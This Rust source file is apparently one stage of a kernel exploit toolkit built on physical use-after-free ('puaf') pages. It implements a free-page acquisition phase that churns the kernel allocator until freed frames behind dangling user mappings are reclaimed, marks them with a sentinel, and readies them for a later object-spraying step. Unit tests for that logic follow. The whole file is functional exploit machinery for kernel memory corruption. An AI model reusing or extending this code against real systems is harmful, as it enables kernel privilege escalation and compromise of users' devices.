//! Free-page acquisition.
//!
//! Spraying only lands objects on the dangling pages if their backing
//! frames sit on the kernel's free lists. This phase churns the allocator
//! by duplicating a caller-provided copy region until a target share of the
//! puaf pages shows the sentinel that marks a reclaimed frame, or until the
//! churn budget runs out. Falling short is reported, not fatal: spraying
//! can still succeed with fewer grabbed pages, just less reliably.

use std::io;

use indicatif::MultiProgress;
use log::{debug, info};
use serde::Serialize;

use crate::puaf::{CopyRegion, PuafPages};
use crate::session::SessionConfig;
use crate::util;

/// Marker copied into the head of the source buffer. Pages that come back
/// from the allocator as copy destinations carry it at offset zero.
pub const COPY_SENTINEL: [u8; 16] = *b"kalias-free-page";

/// Duplicates the copy region through whatever channel makes the kernel
/// allocate fresh destination pages.
///
/// Implementations decide what "duplicate" means for their substrate; the
/// engine only requires that repeated calls keep drawing pages from the
/// free lists, so frames backing the puaf pages eventually serve as copy
/// destinations.
pub trait RegionDuplicator {
    /// Copies `copy.size` bytes from `copy.src` to `copy.dst`.
    fn duplicate(&mut self, copy: &CopyRegion) -> io::Result<()>;
}

/// Outcome of the acquisition phase.
#[derive(Debug, Clone, Copy, Serialize)]
pub struct AcquireStats {
    /// Puaf pages observed carrying the sentinel, each counted once.
    pub grabbed: u64,
    /// Target number of grabbed pages.
    pub goal: u64,
    /// Pages churned through the duplicator.
    pub churned: u64,
    /// Whether `grabbed` reached `goal` within the churn budget.
    pub goal_met: bool,
}

/// Churns the allocator until the grab goal is met or the churn budget is
/// exhausted. Each puaf page counts towards `grabbed` the first time its
/// head matches the sentinel, regardless of later observations.
///
/// # Panics
///
/// Panics if `config.grab_goal_divisor` is zero.
pub(crate) fn grab_free_pages(
    duplicator: &mut dyn RegionDuplicator,
    copy: &CopyRegion,
    puaf: &PuafPages,
    config: &SessionConfig,
    progress: Option<&MultiProgress>,
) -> io::Result<AcquireStats> {
    assert!(config.grab_goal_divisor > 0, "grab goal divisor must be nonzero");
    let goal = (puaf.len() / config.grab_goal_divisor) as u64;
    let mut stats = AcquireStats {
        grabbed: 0,
        goal,
        churned: 0,
        goal_met: goal == 0,
    };
    if goal == 0 {
        debug!("puaf set too small for a grab goal, skipping acquisition");
        return Ok(stats);
    }
    info!(
        "grabbing free pages: goal = {}/{} puaf pages, churn cap = {} pages",
        goal,
        puaf.len(),
        config.churn_cap
    );

    unsafe {
        std::ptr::copy_nonoverlapping(
            COPY_SENTINEL.as_ptr(),
            copy.src as *mut u8,
            COPY_SENTINEL.len(),
        );
    }

    let bar = progress.map(|mp| util::phase_bar(mp, "grab free pages", goal));
    let copy_pages = copy.pages();
    let mut seen = vec![false; puaf.len()];
    loop {
        if stats.churned + copy_pages > config.churn_cap {
            break;
        }
        duplicator.duplicate(copy)?;
        stats.churned += copy_pages;
        for (index, &uaddr) in puaf.iter().enumerate() {
            if seen[index] {
                continue;
            }
            let head = unsafe { (uaddr as *const [u8; COPY_SENTINEL.len()]).read_volatile() };
            if head == COPY_SENTINEL {
                seen[index] = true;
                stats.grabbed += 1;
            }
        }
        if let Some(bar) = &bar {
            bar.set_position(stats.grabbed);
        }
        if stats.grabbed >= goal {
            stats.goal_met = true;
            break;
        }
    }
    if let Some(bar) = &bar {
        bar.finish();
    }
    info!(
        "grabbed {}/{} free pages after churning {} pages",
        stats.grabbed, goal, stats.churned
    );
    Ok(stats)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::{PAGE_MASK, PAGE_SIZE};

    /// Writes the head of the copy source into scripted puaf pages once a
    /// given churn count is reached, mimicking frames that get reused as
    /// copy destinations.
    struct ScriptedDuplicator {
        pages: Vec<usize>,
        plan: Vec<(u64, usize)>,
        churned: u64,
    }

    impl RegionDuplicator for ScriptedDuplicator {
        fn duplicate(&mut self, copy: &CopyRegion) -> io::Result<()> {
            self.churned += copy.pages();
            for &(at_churn, index) in &self.plan {
                if at_churn <= self.churned {
                    unsafe {
                        std::ptr::copy_nonoverlapping(
                            copy.src as *const u8,
                            self.pages[index] as *mut u8,
                            16,
                        );
                    }
                }
            }
            Ok(())
        }
    }

    fn aligned_pages(count: usize) -> (Vec<u8>, Vec<usize>) {
        let backing = vec![0u8; (count + 1) * PAGE_SIZE];
        let base = (backing.as_ptr() as usize + PAGE_MASK) & !PAGE_MASK;
        let pages = (0..count).map(|i| base + i * PAGE_SIZE).collect();
        (backing, pages)
    }

    fn config(divisor: usize, cap: u64) -> SessionConfig {
        SessionConfig {
            grab_goal_divisor: divisor,
            churn_cap: cap,
            ..SessionConfig::default()
        }
    }

    #[test]
    fn stops_as_soon_as_the_goal_is_met() {
        let (_backing, pages) = aligned_pages(8);
        let (_copy_backing, copy_pages) = aligned_pages(2);
        let copy = CopyRegion::new(copy_pages[0], copy_pages[1], PAGE_SIZE).unwrap();
        let puaf = PuafPages::new(pages.clone()).unwrap();
        let mut duplicator = ScriptedDuplicator {
            pages,
            plan: vec![(1, 1), (2, 5), (3, 6)],
            churned: 0,
        };

        let stats = grab_free_pages(&mut duplicator, &copy, &puaf, &config(4, 1000), None).unwrap();

        assert!(stats.goal_met);
        assert_eq!(stats.goal, 2);
        assert_eq!(stats.grabbed, 2);
        assert_eq!(stats.churned, 2);
        assert_eq!(duplicator.churned, 2);
        let head = unsafe { (copy.src as *const [u8; 16]).read_volatile() };
        assert_eq!(head, COPY_SENTINEL, "copy source must be seeded with the sentinel");
    }

    #[test]
    fn counts_each_page_only_on_first_sighting() {
        let (_backing, pages) = aligned_pages(8);
        let (_copy_backing, copy_pages) = aligned_pages(2);
        let copy = CopyRegion::new(copy_pages[0], copy_pages[1], PAGE_SIZE).unwrap();
        let puaf = PuafPages::new(pages.clone()).unwrap();
        // Page 3 keeps its sentinel across sweeps; recounting it would fake
        // a met goal by churn 2.
        let mut duplicator = ScriptedDuplicator {
            pages,
            plan: vec![(1, 3)],
            churned: 0,
        };

        let stats = grab_free_pages(&mut duplicator, &copy, &puaf, &config(4, 4), None).unwrap();

        assert!(!stats.goal_met);
        assert_eq!(stats.grabbed, 1);
        assert_eq!(stats.churned, 4);
    }

    #[test]
    fn never_churns_past_the_cap() {
        let (_backing, pages) = aligned_pages(8);
        let (_copy_backing, copy_pages) = aligned_pages(4);
        let copy = CopyRegion::new(copy_pages[0], copy_pages[2], 2 * PAGE_SIZE).unwrap();
        let puaf = PuafPages::new(pages.clone()).unwrap();
        let mut duplicator = ScriptedDuplicator {
            pages,
            plan: vec![],
            churned: 0,
        };

        let stats = grab_free_pages(&mut duplicator, &copy, &puaf, &config(4, 5), None).unwrap();

        assert!(!stats.goal_met);
        assert_eq!(stats.grabbed, 0);
        assert_eq!(stats.churned, 4, "a 2 page pass must not start at churn 4 with cap 5");
    }

    #[test]
    fn small_page_sets_skip_acquisition() {
        let (_backing, pages) = aligned_pages(3);
        let (_copy_backing, copy_pages) = aligned_pages(2);
        let copy = CopyRegion::new(copy_pages[0], copy_pages[1], PAGE_SIZE).unwrap();
        let puaf = PuafPages::new(pages.clone()).unwrap();
        let mut duplicator = ScriptedDuplicator {
            pages,
            plan: vec![],
            churned: 0,
        };

        let stats = grab_free_pages(&mut duplicator, &copy, &puaf, &config(4, 1000), None).unwrap();

        assert!(stats.goal_met);
        assert_eq!(stats.goal, 0);
        assert_eq!(stats.churned, 0);
        assert_eq!(duplicator.churned, 0);
    }
}
